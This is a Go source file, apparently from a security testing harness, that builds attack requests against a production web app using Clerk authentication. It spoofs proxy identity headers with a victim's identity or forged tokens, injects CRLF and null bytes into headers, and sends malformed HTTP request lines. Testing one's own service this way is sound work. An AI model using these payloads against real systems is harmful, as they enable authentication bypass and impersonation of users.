package attack

// headerFamilies attack what servers take a line of the header for, and what handlers
// believe that only another server can have set.
func headerFamilies() []family {
	p := production()
	controls := []control{{"a token", get("/me", bearer(p.session())), speaks}}
	names := oneOf(
		"X-Clerk-Auth-Status", "X-Clerk-Auth-Token", "X-Clerk-Auth-Signature", "X-Clerk-Auth-Reason", "X-Clerk-User-Id", "X-User-Id", "X-User", "Remote-User",
		"X-Remote-User", "X-Forwarded-User", "X-Forwarded-Email", "X-Auth-Request-User", "X-WEBAUTH-USER", "X-Authenticated-User",
		"X-Clerk-Request-Data", "X-Clerk-Debug", "X-Middleware-Subrequest", "X-Middleware-Invoke", "X-Nextjs-Data", "X-Amzn-Oidc-Identity",
		"X-Goog-Authenticated-User-Id", "X-Ms-Client-Principal-Id", "SSL-Client-Verify", "X-SSL-Client-S-DN", "X-Client-Cert", "X-Original-User",
	)
	return []family{
		{name: "headers of other servers", site: onProduction, controls: controls, attacks: either(
			names.each(func(name string) string { return get("/me", name+": signed-in") }).called("status"),
			names.each(func(name string) string { return get("/open", name+": "+victim) }).called("user"),
			names.each(func(name string) string {
				return get("/open", name+": "+token(mustJSON(p.header()), mustJSON(p.claims()), forgedSeals(p)[0].sign))
			}).called("token"),
		)},
		{name: "lines of the header", site: onProduction, controls: controls, pipelined: true, attacks: oneOf(
			"X-A: b\nX-Evil: 1", "X-A: b\rX-Evil: 1", "X-A: b\x00c", "X-A\x00: b", "X-A : b", " X-A: b", "\tX-A: b", "X-A: b\r\n folded", "X-A: b\r\n\tfolded", "X A: b",
			"X-A", ": b", "=: b", "X-A:b\x0bc", "X-A: \x1b[31m", "X-\u00e9: b", "X-A: \u560d\u560aX-Evil: 1", "X(A): b", "X-A\": b",
			"X-A: b\r\r\n", "Authorization: Bearer\r\n x", "Authorization : Bearer x", "Authorization: Bearer x\x00", "Authorization\t: Bearer x",
			"Cookie: a=b\r\n __session=x", "Cookie: a\x00=b", "Cookie : __session=x", "Cookie: a=b\nCookie: c=d",
			"Accept: text/html\r\nSec-Fetch-Dest: document\r\nX-Forwarded-Host: a\r\n b", "X-Forwarded-Proto: http\x00s", "Origin: \x00", "Referer: \x7f",
			"User-Agent: \r", "Content-Length : 0", "Host\x00: evil.example",
		).each(func(line string) string { return "GET /me HTTP/1.1\r\nHost: " + appHost + "\r\n" + line + "\r\n\r\n" })},
		{name: "request lines", site: onProduction, controls: controls, pipelined: true, attacks: oneOf(
			"GET /me HTTP/1.1 HTTP/1.1", "GET  /me HTTP/1.1", "GET /me  HTTP/1.1", " GET /me HTTP/1.1", "GET /me http/1.1", "GET /me HTTP/1.2", "GET /me HTTP/2.0",
			"GET /me HTTP/9.9", "GET /me HTTP/1.10", "GET /me HTTP/1.1x", "GET /me HTTP/", "GET /me XTTP/1.1", "GET /me",
			"GET", "GET /me\x00 HTTP/1.1", "GET /me\tHTTP/1.1", "GET\t/me HTTP/1.1", "GET /me x HTTP/1.1", "PRI * HTTP/2.0",
			"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
		).each(func(line string) string { return line + "\r\nHost: " + appHost + "\r\n\r\n" })},
	}
}
